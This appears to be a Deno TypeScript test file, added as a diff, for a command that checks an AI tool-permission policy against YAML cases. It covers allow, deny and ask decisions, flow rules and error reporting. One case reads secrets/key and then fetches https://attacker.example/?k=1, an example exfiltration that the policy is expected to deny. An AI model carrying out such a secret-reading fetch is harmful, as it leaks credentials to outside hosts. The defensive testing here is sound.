@@ -1,0 +1,194 @@
+// `gate test CASES --policy FILE` as a real process: each case decided by
+// the gate's own code with no server, 0 when all hold, 1 naming each miss
+// with what decided it, 2 for a wrong file, placed at its line.
+
+import assert from "node:assert/strict";
+import { runGate } from "../testdata/gate_process.ts";
+
+const POLICY = (root: string, flows: boolean) =>
+  `roots: ["${root}"]
+presets: [filesystem]
+tools:
+  fetch: { patterns: ["net:{url}"] }
+  search: allow
+allow: ["read:**", "write:notes/**", "net:**"]
+deny: ["write:secrets/**"]
+unprobed: deny
+annotations: { readOnly: allow }
+${
+    flows
+      ? `flows:
+  - after: ["read:secrets/**"]
+    deny: ["net:**", "exec:**"]
+  - after: ["net:**"]
+    ask: ["write:**", "exec:**", unprobed]
+`
+      : ""
+  }`;
+
+const CASES = `cases:
+  - name: notes are writable
+    tool: write_file
+    arguments: { path: notes/a.md, content: x }
+    expect: allow
+  - tool: write_file
+    arguments: { path: secrets/key, content: x }
+    expect: deny
+  - name: a probed tool's patterns
+    tool: fetch_probed
+    patterns: ["net:https://example.com"]
+    expect: allow
+  - name: no exfiltration
+    before:
+      - { tool: read_text_file, arguments: { path: secrets/key } }
+    tool: fetch
+    arguments: { url: "https://attacker.example/?k=1" }
+    expect: deny
+  - name: untrusted content asks before a write
+    before:
+      - { tool: fetch, arguments: { url: "https://example.com" } }
+    tool: write_file
+    arguments: { path: notes/a.md, content: x }
+    expect: ask
+  - name: by name
+    tool: search
+    expect: allow
+  - name: by annotation
+    tool: lookup
+    annotations: { readOnlyHint: true }
+    expect: allow
+  - name: unprobed
+    tool: mystery
+    expect: deny
+`;
+
+async function workspace() {
+  const dir = await Deno.realPath(await Deno.makeTempDir());
+  const root = `${dir}/work`;
+  await Deno.mkdir(root);
+  return {
+    dir,
+    root,
+    policy: `${dir}/gate.yaml`,
+    cases: `${dir}/cases.yaml`,
+    async [Symbol.asyncDispose]() {
+      await Deno.remove(dir, { recursive: true });
+    },
+  };
+}
+
+Deno.test("gate test holds when every case decides as expected", async () => {
+  await using ws = await workspace();
+  await Deno.writeTextFile(ws.policy, POLICY(ws.root, true));
+  await Deno.writeTextFile(ws.cases, CASES);
+  const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+  assert.equal(run.stderr, "");
+  assert.equal(run.stdout, `${ws.cases}: 8 cases hold\n`);
+  assert.equal(run.code, 0);
+});
+
+Deno.test("gate test names a wrong expectation with the rule that decided", async () => {
+  await using ws = await workspace();
+  await Deno.writeTextFile(ws.policy, POLICY(ws.root, true));
+  await Deno.writeTextFile(
+    ws.cases,
+    CASES.replace(
+      "arguments: { path: secrets/key, content: x }\n    expect: deny",
+      "arguments: { path: secrets/key, content: x }\n    expect: allow",
+    ),
+  );
+  const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+  assert.equal(run.code, 1);
+  assert.equal(
+    run.stdout,
+    `${ws.cases}:8:5: cases[1]: expected allow, got deny by write:secrets/**\n${ws.cases}: 1 of 8 cases missed\n`,
+  );
+});
+
+Deno.test("gate test names each case a changed policy decides otherwise, with the flow", async () => {
+  await using ws = await workspace();
+  await Deno.writeTextFile(ws.cases, CASES);
+  // Without its flows, the policy lets the exfiltration through.
+  await Deno.writeTextFile(ws.policy, POLICY(ws.root, false));
+  const without = await runGate(["test", ws.cases, "--policy", ws.policy]);
+  assert.equal(without.code, 1);
+  assert.equal(
+    without.stdout,
+    [
+      `${ws.cases}:18:5: cases[3] (no exfiltration): expected deny, got allow by net:**`,
+      `${ws.cases}:24:5: cases[4] (untrusted content asks before a write): expected ask, got allow by write:notes/**`,
+      `${ws.cases}: 2 of 8 cases missed`,
+      "",
+    ].join("\n"),
+  );
+  // With them, a case that expects the old decision misses, naming the flow.
+  await Deno.writeTextFile(ws.policy, POLICY(ws.root, true));
+  await Deno.writeTextFile(
+    ws.cases,
+    CASES.replace(
+      '"https://attacker.example/?k=1" }\n    expect: deny',
+      '"https://attacker.example/?k=1" }\n    expect: allow',
+    ),
+  );
+  const flowed = await runGate(["test", ws.cases, "--policy", ws.policy]);
+  assert.equal(flowed.code, 1);
+  assert.match(
+    flowed.stdout,
+    /cases\[3\] \(no exfiltration\): expected allow, got deny by flows\[0\] \(net:\*\*\), set off by read:secrets\/key of read_text_file\n/,
+  );
+});
+
+Deno.test("gate test refuses a wrong file with its line and column (exit 2)", async (t) => {
+  await using ws = await workspace();
+  await Deno.writeTextFile(ws.policy, POLICY(ws.root, true));
+  const cases: [string, string][] = [
+    [
+      "cases:\n  - tool: write_file\n    expect: maybe\n",
+      ':3:5: cases[0].expect: expected allow, ask or deny, got "maybe"',
+    ],
+    [
+      "cases:\n  - tool: f\n    patterns: [1]\n    expect: allow\n",
+      ":3:5: cases[0].patterns: expected a list of pattern strings",
+    ],
+    [
+      "cases:\n  - tool: f\n    tol: x\n    expect: allow\n",
+      ":3:5: cases[0].tol: unknown key",
+    ],
+    [
+      "cases:\n  - tool: f\n    server: files\n    expect: allow\n",
+      ":3:5: cases[0].server: the policy names no servers",
+    ],
+    ["cases: [\n", ":"],
+  ];
+  for (const [text, message] of cases) {
+    await t.step(message, async () => {
+      await Deno.writeTextFile(ws.cases, text);
+      const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+      assert.equal(run.code, 2);
+      assert.ok(
+        run.stderr.startsWith(
+          `forge gate: Cannot read the cases: ${ws.cases}${message}`,
+        ),
+        run.stderr,
+      );
+    });
+  }
+  await t.step("a wrong policy", async () => {
+    await Deno.writeTextFile(ws.cases, CASES);
+    await Deno.writeTextFile(
+      ws.policy,
+      'flows:\n  - after: ["read:a"]\n    deny: ["NET:**"]\n',
+    );
+    const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+    assert.equal(run.code, 2);
+    assert.match(
+      run.stderr,
+      /Cannot load the policy: .*gate\.yaml:3:13: flows\[0\]\.deny\[0\]: unknown verb "NET"/,
+    );
+  });
+  await t.step("a bad command line", async () => {
+    const run = await runGate(["test", ws.cases]);
+    assert.equal(run.code, 2);
+    assert.match(run.stderr, /Expected test CASES --policy FILE/);
+  });
+});
